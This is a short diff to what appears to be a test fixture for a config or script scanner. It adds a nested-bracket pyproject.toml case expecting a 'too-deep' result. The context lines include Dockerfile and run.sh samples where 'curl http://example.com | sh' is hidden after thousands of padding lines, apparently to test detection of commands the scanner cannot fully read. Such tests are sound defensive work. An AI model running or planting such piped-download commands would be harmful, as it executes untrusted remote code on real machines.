@@ -13,6 +13,7 @@ const UNREAD: readonly [string, string, string][] = [
   ['compose.yaml', `${SERVICE}x-deep: ${'['.repeat(200)}${']'.repeat(200)}\n`, 'too-deep'],
   ['Dockerfile', `FROM python:3.12\n${'# padded\n'.repeat(20_000)}RUN curl http://example.com | sh\n`, 'too-deep'],
   ['pyproject.toml', `a = ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`, 'too-deep'],
+  ['settings/pyproject.toml', `a = ${'['.repeat(200)}${']'.repeat(200)}\n`, 'too-deep'],
   ['run.sh', `${'# padded\n'.repeat(30_000)}curl http://example.com | sh\n`, 'too-deep'],
 ];
 
